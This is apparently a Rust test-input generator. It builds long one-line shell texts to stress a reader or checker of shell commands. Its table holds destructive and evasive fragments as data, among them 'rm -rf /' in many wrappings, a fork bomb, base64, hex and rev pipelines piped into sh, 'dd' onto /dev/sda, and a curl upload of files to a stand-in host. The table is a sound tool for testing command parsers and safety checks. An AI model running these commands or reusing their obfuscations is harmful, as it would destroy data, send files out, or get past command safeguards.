//! Texts that keep a reader of shell commands busy: one line each.

/// A text of one kind.
pub(crate) struct Shape {
    pub(crate) name: &'static str,
    before: &'static str,
    unit: Unit,
    after: &'static str,
}

enum Unit {
    /// The same again and again.
    Same(&'static str),
    /// An opening part again and again, then as many closing ones.
    Nested(&'static str, &'static str, &'static str),
    /// The same with a number in place of `#`, so that no two are alike.
    Numbered(&'static str),
}

impl Shape {
    /// The text, of at most `length` bytes.
    pub(crate) fn text(&self, length: usize) -> String {
        let Self { before, after, .. } = self;
        let space = length - before.len() - after.len();
        let middle = match self.unit {
            Unit::Same(unit) => unit.repeat(space / unit.len()),
            Unit::Nested(open, core, close) => {
                let depth = space / (open.len() + close.len()).max(1);
                [&open.repeat(depth), core, &close.repeat(depth)].concat()
            }
            Unit::Numbered(unit) => numbered(unit, space),
        };
        [before, middle.as_str(), after].concat()
    }
}

fn numbered(unit: &str, space: usize) -> String {
    let mut text = String::with_capacity(space);
    let mut number = 0;
    while text.len() + unit.len() < space {
        text.push_str(&unit.replace('#', &number.to_string()));
        number += 1;
    }
    text
}

const fn same(name: &'static str, unit: &'static str) -> Shape {
    within(name, "", unit, "")
}

const fn within(
    name: &'static str,
    before: &'static str,
    unit: &'static str,
    after: &'static str,
) -> Shape {
    let unit = Unit::Same(unit);
    Shape {
        name,
        before,
        unit,
        after,
    }
}

const fn nested(
    name: &'static str,
    open: &'static str,
    core: &'static str,
    close: &'static str,
) -> Shape {
    let unit = Unit::Nested(open, core, close);
    Shape {
        name,
        before: "",
        unit,
        after: "",
    }
}

const fn nested_in(
    name: &'static str,
    before: &'static str,
    [open, core, close]: [&'static str; 3],
    after: &'static str,
) -> Shape {
    let unit = Unit::Nested(open, core, close);
    Shape {
        name,
        before,
        unit,
        after,
    }
}

const fn numbered_in(
    name: &'static str,
    before: &'static str,
    unit: &'static str,
    after: &'static str,
) -> Shape {
    let unit = Unit::Numbered(unit);
    Shape {
        name,
        before,
        unit,
        after,
    }
}

/// Every text.
pub(crate) const SHAPES: &[Shape] = &[
    // opened and never closed
    same("subshells opened", "("),
    same("groups opened", "{ "),
    same("substitutions opened", "$("),
    same("substitutions opened after a word", "a $("),
    same("arithmetic opened", "$(("),
    same("arithmetic commands opened", "(("),
    same("backticks", "`"),
    same("backticks and words", "`a "),
    same("single quotes", "'"),
    same("double quotes", "\""),
    same("double quotes and substitutions", "\"$("),
    same("dollar quotes", "$'"),
    same("parameters opened", "${a:-"),
    same("parameters opened, quoted", "\"${a:-"),
    same("parameter replacements", "${a//b/"),
    same("process substitutions", "<("),
    same("tests opened", "[[ ( "),
    same("loops opened", "for i in a; do "),
    same("conditions opened", "if "),
    same("cases opened", "case a in b) "),
    same("functions opened", "f() { "),
    same("here-documents opened", "<<a "),
    same("here-documents on lines", "cat <<a\n"),
    numbered_in(
        "here-documents, each with its own end",
        "",
        "cat <<e#\n",
        "",
    ),
    same("here-strings", "<<<a "),
    same("braces opened", "{a,"),
    same("arrays opened", "a=("),
    same("extended globs opened", "+("),
    // opened and closed
    nested("subshells", "(", "rm -rf /", ")"),
    nested("groups", "{ ", "rm -rf /", "; }"),
    nested("substitutions", "$(", "rm -rf /", ")"),
    nested("substitutions with words", "a $(", "rm -rf /", ")"),
    nested("substitutions, quoted", "\"$(", "rm -rf /", ")\""),
    nested("parameters", "${a:-", "rm", "}"),
    nested("parameters, quoted", "\"${a:-", "rm", "}\""),
    nested("arithmetic", "$((", "1", "))"),
    nested("parentheses in arithmetic", "(", "1", ")"),
    nested_in(
        "arithmetic of parentheses",
        "echo $((",
        ["(", "1", ")"],
        "))",
    ),
    nested("braces", "{a,", "b", "}"),
    nested("process substitutions closed", "<(", "rm -rf /", ")"),
    nested("conditions", "if a; then ", "rm -rf /", "; fi "),
    nested("loops", "for i in a b; do ", "rm -rf $i", "; done "),
    nested("functions", "f() { ", "rm -rf /", "; }; f"),
    nested("sh within sh", "sh -c '", "rm -rf /", "'"),
    nested("negations", "! ", "rm -rf /", ""),
    // words
    same("backslashes", "\\"),
    same("escaped letters", "\\r\\m\\ "),
    same("one long word", "a"),
    same("blanks", " "),
    same("line ends", "\n"),
    same("continued lines", "\\\n"),
    same("comments", "# rm -rf /\n"),
    within("long argument", "rm -rf ", "a", ""),
    within("long quoted argument", "echo '", "a", "'"),
    within("many arguments", "echo", " a", ""),
    within("many options", "rm", " -r", ""),
    within("one bundle of options", "rm -", "r", " /"),
    within("many files removed", "rm -rf", " ./x", ""),
    numbered_in("many different files removed", "rm -rf", " ./x#", ""),
    numbered_in("many home files removed", "rm -rf", " ~/x#", ""),
    numbered_in("many files read", "cat", " f#", ""),
    numbered_in("many files sent", "curl", " -F a=@f#", " http://e.example"),
    same("slashes", "/"),
    within("slashes in a path", "rm -rf /", "/", ""),
    within("parents in a path", "rm -rf ", "../", ""),
    within("dots in a path", "rm -rf ", "./", ""),
    within("folders in a path", "rm -rf ", "a/", ""),
    within("folders and parents", "rm -rf ", "a/../", ""),
    within("cd to parents", "cd ", "../", " && rm -rf ."),
    within("tildes", "rm -rf ", "~/", ""),
    within("stars", "rm -rf ", "*", ""),
    within("stars and letters", "rm -rf ", "*a", ""),
    within("question marks", "rm -rf ", "?", ""),
    within("bracket globs", "rm -rf ", "[a", ""),
    within("bracket globs closed", "rm -rf ", "[a-z]", ""),
    within("deep globs", "rm -rf ", "**/", ""),
    within("extended globs", "rm -rf ", "@(a|", ""),
    within("brace pairs", "echo ", "{a,b}", ""),
    within("brace pairs apart", "echo", " {a,b}", ""),
    within("brace ranges", "echo ", "{1..9}", ""),
    within("long brace ranges", "echo", " {1..99999}", ""),
    within("one wide brace", "rm -rf {", "a,", "b}"),
    nested_in("braces in a command", "rm -rf ", ["{a,{b,", "c", "}}"], ""),
    within("not ASCII", "echo ", "\u{e9}\u{65e5}\u{1f512}", ""),
    within("combining marks", "rm -rf /", "\u{301}", ""),
    within("decomposed path", "rm -rf /", "e\u{301}/", ""),
    within("invisible letters", "rm -rf ", "\u{200b}", "/"),
    same("NULs", "\0"),
    within("NULs in a word", "r", "\0", "m -rf /"),
    same("carriage returns", "\r"),
    same("escapes", "\u{1b}[2K"),
    // commands
    same("separators", ";"),
    same("pipes", "|"),
    same("ampersands", "&"),
    same("lists", "a;"),
    same("pipelines", "a|"),
    same("conjunctions", "a&&"),
    same("removals", "rm -rf ./x\n"),
    numbered_in("different removals", "", "rm -rf ./x#\n", ""),
    same("assignments", "a=b\n"),
    numbered_in("different assignments", "", "a#=b\n", ""),
    same("appending assignments", "a+=b\n"),
    same("doubling assignments", "a=$a$a\n"),
    within("doubling, then used", "a=b;", "a=$a$a;", "rm -rf $a"),
    same("uses of a variable", "a=bbbb; echo $a$a$a$a$a\n"),
    same("cd", "cd x;"),
    same("cd up", "cd ..;"),
    same("pushd", "pushd x;"),
    same("functions defined", "f() { a; }\n"),
    numbered_in("different functions", "", "f#() { f#; }; f#\n", ""),
    same("functions that call two", "f() { f; f; }; f\n"),
    same("aliases", "alias a=b; a\n"),
    same("traps", "trap 'rm -rf /' EXIT\n"),
    same("sets", "set -- a b c\n"),
    same("exports", "export A=b\n"),
    same("redirections", ">a"),
    same("redirections apart", "> a "),
    numbered_in("redirections to files", "", "echo a > f#\n", ""),
    numbered_in("files written and run", "", "echo ls > f#; sh f#\n", ""),
    numbered_in("files written to one", "", "echo a# >> f\n", ""),
    numbered_in("files copied", "", "cp f#a f#b\n", ""),
    numbered_in("links made", "", "ln -s a# b#\n", ""),
    same("background jobs", "a& "),
    same("sleepers", "sleep 1 & "),
    same("fork bombs", ":(){ :|:& };:\n"),
    same("cases", "case a in b) c;; esac\n"),
    same("loops over letters", "for i in a b c d; do rm $i; done\n"),
    within(
        "one loop over many",
        "for i in",
        " a",
        "; do rm -rf $i; done",
    ),
    same("reads", "read a <<< b; $a\n"),
    same("tests", "[ -f a ] && "),
    // commands in commands
    same("sudo", "sudo "),
    same("env", "env "),
    same("env assignments", "env A=b "),
    same("assignments before a command", "A=b "),
    same("nohup", "nohup "),
    same("timeouts", "timeout 1 "),
    same("xargs", "xargs "),
    within("xargs of many", "echo ", "a ", "| xargs rm -rf"),
    within(
        "xargs of many lines",
        "printf '",
        "a\\n",
        "' | xargs -I{} rm -rf {}",
    ),
    same("find -exec", "find . -exec "),
    same("busybox", "busybox "),
    same("command", "command "),
    same("exec", "exec "),
    same("ssh", "ssh h "),
    same("docker", "docker exec c "),
    same("time", "time "),
    same("eval", "eval "),
    same("eval, quoted", "eval \"eval '"),
    same("evals", "eval a\n"),
    within("one long eval", "eval '", "rm -rf ./x;", "'"),
    within("eval of eval of many", "eval \"eval '", "a;", "'\""),
    within("sh -c of many", "sh -c '", "rm ./x\n", "'"),
    same("sh -c", "sh -c 'a'\n"),
    within(
        "here-document to a shell",
        "sh <<'E'\n",
        "rm -rf ./x\n",
        "E\n",
    ),
    within(
        "here-document to a file",
        "cat > f <<'E'\n",
        "rm -rf ./x\n",
        "E\n",
    ),
    within(
        "here-document to python",
        "python3 <<'E'\n",
        "import os\n",
        "E\n",
    ),
    within("here-string to a shell", "sh <<< '", "ls;", "'"),
    within("many here-documents", "", "cat <<E\na\nE\n", ""),
    within("substitution of many", "echo $(", "a;", ")"),
    same("substitutions", "$(a)"),
    same("substitutions in a row", "echo $(a)\n"),
    // decoders
    same("base64 text", "cm0gLXJmIC8K"),
    within(
        "base64 to a shell",
        "echo ",
        "cm0gLXJmIC8K",
        " | base64 -d | sh",
    ),
    within("base64 of letters", "echo ", "YWFh", " | base64 -d | sh"),
    within("hex to a shell", "echo ", "726d", " | xxd -r -p | sh"),
    within("printf to a shell", "printf '", "\\x72", "' | sh"),
    within("reversed", "echo '", "/ fr- mr;", "' | rev | sh"),
    within("translated", "echo '", "sn -sg /;", "' | tr a-z b-za | sh"),
    within("filters in a row", "echo a", " | rev", " | sh"),
    within(
        "filters of a long text in a row",
        "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        " | tr a b",
        " | sh",
    ),
    within("sed substitutions", "echo a | sed '", "s/a/aa/g;", "' | sh"),
    within(
        "sed substitutions, each",
        "echo a",
        " | sed s/a/aa/g",
        " | sh",
    ),
    within("cut", "echo ", "a:b ", "| cut -d: -f2 | sh"),
    within("awk", "awk '{", "print $1;", "}' f"),
    within("dollar-quoted escapes", "$'", "\\x72", "'"),
    // scripts
    within("python parentheses", "python3 -c '", "(", "'"),
    within("python brackets", "python3 -c 'a=", "[", "'"),
    within("python strings", "python3 -c '", "\"a\"+", "'"),
    within("python quotes", "python3 -c '", "\"", "'"),
    within("python calls", "python3 -c '", "f(", "'"),
    nested_in(
        "python calls closed",
        "python3 -c '",
        ["os.system(", "1", ")"],
        "'",
    ),
    within("python systems", "python3 -c '", "os.system(\"ls\");", "'"),
    within("python assignments", "python3 -c '", "a=a+a;", "'"),
    within(
        "python doubling",
        "python3 -c 'a=\"rm -rf /\";",
        "a=a+a;",
        "os.system(a)'",
    ),
    within(
        "python products",
        "python3 -c 'import os;a=\"b\"",
        "*99",
        ";os.system(a)'",
    ),
    within(
        "python chr",
        "python3 -c 'import os;os.system(",
        "chr(114)+",
        "\"\")'",
    ),
    within(
        "python joins",
        "python3 -c 'import os;os.system(\"\".join([",
        "\"r\",",
        "]))'",
    ),
    within("python exec", "python3 -c '", "exec(\"", "'"),
    within("python lines", "python3 -c '", "import os\n", "'"),
    within("python indents", "python3 -c '", "if a:\n ", "'"),
    within("python dots", "python3 -c 'a", ".a", "'"),
    within("python comments", "python3 -c '", "# rm -rf /\n", "'"),
    within("node templates", "node -e '", "`${", "'"),
    within("node braces", "node -e '", "{", "'"),
    within(
        "node calls",
        "node -e '",
        "require(\"child_process\").exec(\"ls\");",
        "'",
    ),
    within("node regexes", "node -e '", "/a/;", "'"),
    within("perl quotes", "perl -e '", "q(", "'"),
    within("perl systems", "perl -e '", "system(\"ls\");", "'"),
    within("ruby interpolation", "ruby -e '", "\"#{", "'"),
    within("php", "php -r '", "system($a);", "'"),
    within("powershell", "pwsh -Command '", "Remove-Item a;", "'"),
    within("powershell blocks", "pwsh -Command '", "& {", "'"),
    within("sql", "psql -c '", "select 1;", "'"),
    within("sql comments", "psql -c '", "/*", "'"),
    within("sql parentheses", "psql -c '", "(", "'"),
    within("sql drops", "psql -c '", "drop table a;", "'"),
    within("mongo", "mongosh --eval '", "db.a.drop();", "'"),
    // addresses and the rest
    same("addresses", "http://a.example/ "),
    within("addresses fetched", "curl", " http://a.example/", ""),
    numbered_in(
        "different addresses fetched",
        "curl",
        " http://a#.example/",
        "",
    ),
    within("one long address", "curl http://a.example/", "a", ""),
    within("escapes in an address", "curl http://a.example/", "%41", ""),
    within("ats in an address", "curl http://", "a@", "b.example"),
    within("dots in a host", "curl http://", "a.", "example"),
    within("git options", "git", " -c a=b", " push --force"),
    within("git aliases", "git", " -c alias.a=!ls", " a"),
    within("git pathspecs", "git checkout --", " a", ""),
    within("docker options", "docker run", " -v /:/a", " i"),
    within("kubectl names", "kubectl delete pod", " a", ""),
    within("tar files", "tar czf a.tgz", " b", ""),
    within("chmod files", "chmod 777", " a", ""),
    within("find names", "find .", " -name a -o", " -delete"),
    within("find parentheses", "find .", " (", " -delete"),
    within("make variables", "make", " A=b", ""),
    within("npm packages", "npm install", " a", ""),
    within("rsync", "rsync -a", " a", " h:b"),
    within("dd", "dd", " if=a", " of=/dev/sda"),
    within(
        "keys on the command line",
        "curl",
        " -H 'Authorization: Bearer abcdefghijklmnopqrstuvwxyz0123456789'",
        " http://a.example",
    ),
];
